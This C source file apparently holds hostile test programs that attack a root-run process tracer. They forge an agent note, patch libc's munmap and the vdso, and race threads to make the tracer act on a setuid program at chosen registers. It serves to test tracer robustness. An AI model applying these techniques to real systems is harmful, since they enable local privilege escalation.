/* Processes that root attaches, or takes an agent out of: they would have root's tracer act on a setuid program, at registers that
 * they have chosen. */
#include "hostile.h"
#include <link.h>
#include <sys/auxv.h>

/* Where the setuid program has the code that attackers want run (fixed.c). */
#define WANTED_AT 0x10000000ul

static char **program;

/* An instruction that leads to itself, where the other program has other code: a thread that stands there is found there. */
static void *wait_at_wanted(void *ignored)
{
	((void (*)(void))WANTED_AT)();
	return ignored;
}

static void map_wanted(void)
{
	unsigned char *code = map_at(WANTED_AT, 1);
	code[0] = 0xeb, code[1] = 0xfe;
	mprotect(code, PAGE, PROT_READ | PROT_EXEC);
}

/* With an alarm under way, by which a tracer that waits for the end of a call hears of a signal. */
static void execute(void)
{
	sigset_t none;
	sigemptyset(&none);
	sigprocmask(SIG_SETMASK, &none, NULL);
	alarm(1);
	execv(program[0], program);
	_exit(1);
}

static void execute_at_once(void)
{
	execv(program[0], program);
	_exit(1);
}

/* movabs and jmp, to code of ours that expects a stack as after a call. */
static void write_jump(unsigned char *at, void (*to)(void))
{
	static const unsigned char align[] = { 0x48, 0x83, 0xe4, 0xf0, 0x48, 0x83, 0xec, 0x08, 0x48, 0xb8 };
	uint64_t address = (uint64_t)to;
	memcpy(at, align, sizeof align);
	memcpy(at + sizeof align, &address, 8);
	at[sizeof align + 8] = 0xff, at[sizeof align + 9] = 0xe0;
}

/* ---- a note of an agent that is none ---- */

struct image { uint64_t base, code, code_end; };

static int is_libc(struct dl_phdr_info *info, size_t size, void *found)
{
	struct image *image = found;
	(void)size;
	if (!strstr(info->dlpi_name, "/libc.so.6"))
		return 0;
	image->base = info->dlpi_addr;
	for (int i = 0; i < info->dlpi_phnum; i++)
		if (info->dlpi_phdr[i].p_type == PT_LOAD && info->dlpi_phdr[i].p_flags & PF_X) {
			image->code = info->dlpi_addr + info->dlpi_phdr[i].p_vaddr;
			image->code_end = image->code + info->dlpi_phdr[i].p_memsz;
		}
	return 1;
}

/* lying-note PROGRAM: as if it had an agent, whose end executes the setuid program. */
void lying_note(const char *path, char **args)
{
	static const unsigned char endbr[] = { 0xf3, 0x0f, 0x1e, 0xfa };
	struct image libc = { 0 };
	(void)path;
	program = args;
	map_wanted();
	dl_iterate_phdr(is_libc, &libc);
	unsigned char *munmap_code = (unsigned char *)munmap;
	munmap_code += memcmp(munmap_code, endbr, 4) ? 0 : 4;
	unsigned char *image = mmap(NULL, 32 * PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	uint64_t *board = MAP_FAILED;
	for (uint64_t near = libc.base - 16 * PAGE; board == MAP_FAILED; near -= 16 * PAGE)
		board = mmap((void *)near, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	write_jump(image, execute);
	uint64_t note[] = { 0, (uint64_t)image, (uint64_t)image + 32 * PAGE, (uint64_t)board, (uint64_t)board + PAGE,
			    (uint64_t)image, (uint64_t)image, (uint64_t)image, (uint64_t)image, (uint64_t)image,
			    UINT64_MAX, 1, libc.code, 0xb8, 0xe9 };
	memcpy(note, "P1attach", 8);
	memcpy(board, note, sizeof note);
	uint64_t page = (uint64_t)munmap_code & ~(PAGE - 1);
	if (mprotect((void *)page, 2 * PAGE, PROT_READ | PROT_WRITE | PROT_EXEC))
		fail("mprotect");
	int32_t distance = (int32_t)((int64_t)board - (int64_t)(munmap_code + 5));
	munmap_code[0] = 0xe9;
	memcpy(munmap_code + 1, &distance, 4);
	say("ready");
	wait_at_wanted(NULL);
}

/* ---- another code where the tracer has a call made ---- */

static unsigned traced(pid_t thread)
{
	char file[64], text[256] = "";
	snprintf(file, sizeof file, "/proc/%d/status", thread);
	int fd = open(file, O_RDONLY);
	ssize_t len = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
	char *line = len < 0 ? NULL : strstr(text, "TracerPid:");
	if (fd >= 0)
		close(fd);
	return line ? (unsigned)atoi(line + 10) : 0;
}

/* So many mappings that to read them takes the tracer a while. */
static void have_it_read_for_long(void)
{
	for (int i = 0; i < 30000; i++)
		if (mmap(NULL, PAGE, i % 2 ? PROT_READ : PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0) == MAP_FAILED)
			break;
}

static pid_t first;

static int replace_calls(void *ignored)
{
	unsigned char *vdso = (unsigned char *)getauxval(AT_SYSINFO_EHDR), *enter = vdso;
	(void)ignored;
	while (enter[0] != 0x0f || enter[1] != 0x05)
		enter++;
	unsigned char *page = (unsigned char *)((uint64_t)enter & ~(PAGE - 1));
	if (mprotect(page, 2 * PAGE, PROT_READ | PROT_WRITE | PROT_EXEC))
		say("ready, but its vdso is sealed");
	else
		say("ready");
	while (!traced(first))
		rest(1);
	rest(3); /* the instruction was looked for by now */
	write_jump(enter, execute_at_once);
	for (;;)
		pause();
	return 0;
}

/* false-entry PROGRAM: a process that shares its memory puts other code where the tracer has found an instruction that enters the
 * kernel. */
void false_entry(const char *path, char **args)
{
	(void)path;
	program = args;
	map_wanted();
	first = getpid();
	/* Between the look for that instruction and the first call. */
	have_it_read_for_long();
	beside(replace_calls, NULL);
	wait_at_wanted(NULL);
}

/* ---- a thread that takes the number of the one which is held ---- */

/* Its stack looks as if it changed users in libc's way at any moment, so it is let go on, and stopped again, until it does not. */
static void *executes_when_traced(void *ignored)
{
	volatile uint64_t leads_back[32];
	for (int i = 0; i < 32; i++)
		leads_back[i] = (uint64_t)setuid + 8;
	say("ready");
	while (!traced(gettid()))
		;
	execv(program[0], program);
	return leads_back[0] ? ignored : NULL;
}

/* exec-when-traced PROGRAM: its second thread executes when it is traced, and gets the first one's number. */
void exec_when_traced(const char *path, char **args)
{
	pthread_t thread;
	(void)path;
	program = args;
	map_wanted();
	pthread_create(&thread, NULL, executes_when_traced, NULL);
	wait_at_wanted(NULL);
}

/* ---- a thread that executes while the tracer holds another ---- */

static pid_t held;

static void *is_held(void *ignored)
{
	held = gettid();
	for (;;)
		pause();
	return ignored;
}

/* The kernel lets nothing be traced meanwhile, and waits for the end of the one that is held: of which the tracer hears when it asks. */
static void *executes_beside(void *ignored)
{
	say("ready");
	while (!traced(held))
		rest(1);
	rest(3); /* it has looked where that one stands */
	execv(program[0], program);
	return ignored;
}

/* exec-beside PROGRAM: its third thread executes when the second one is held. */
void exec_beside(const char *path, char **args)
{
	pthread_t thread;
	(void)path;
	program = args;
	pthread_create(&thread, NULL, is_held, NULL);
	while (!*(volatile pid_t *)&held)
		rest(1);
	have_it_read_for_long();
	pthread_create(&thread, NULL, executes_beside, NULL);
	for (;;)
		pause();
}
